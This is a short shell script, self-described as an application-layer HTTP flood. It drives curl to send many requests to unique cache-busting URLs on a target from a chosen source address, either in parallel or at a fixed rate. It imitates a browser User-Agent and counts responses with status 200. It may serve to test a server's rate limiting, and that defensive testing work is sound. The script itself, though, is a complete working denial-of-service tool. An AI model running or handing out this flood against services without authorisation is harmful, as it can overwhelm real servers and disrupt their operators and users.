# An application-layer HTTP flood with curl from one source address:
# COUNT requests for distinct URLs, either on PARALLEL parallel keep-alive
# connections (PARALLEL > 1), or one after another on one keep-alive
# connection at RATE requests per second (PARALLEL 1). Prints the number
# of requests answered 200. The URLs come from a config on stdin, not a
# glob: a glob's brackets clash with an IPv6 address's.
# usage: sh -c "$(cat http_flood.sh)" sh SRC BASE COUNT PARALLEL RATE
src=$1 base=$2 n=$3 par=$4 rate=$5
if [ "$par" -gt 1 ]; then
    set -- -Z --parallel-max "$par"
else
    set -- --rate "$rate/s"
fi
seq 1 "$n" | sed "s|.*|url = \"$base/?flood=&\"\noutput = \"/dev/null\"|" |
    curl -s -g "$@" --interface "$src" -A 'Mozilla/5.0' -w '%{stderr}%{http_code}\n' -K - 2>&1 |
    grep -c '^200'
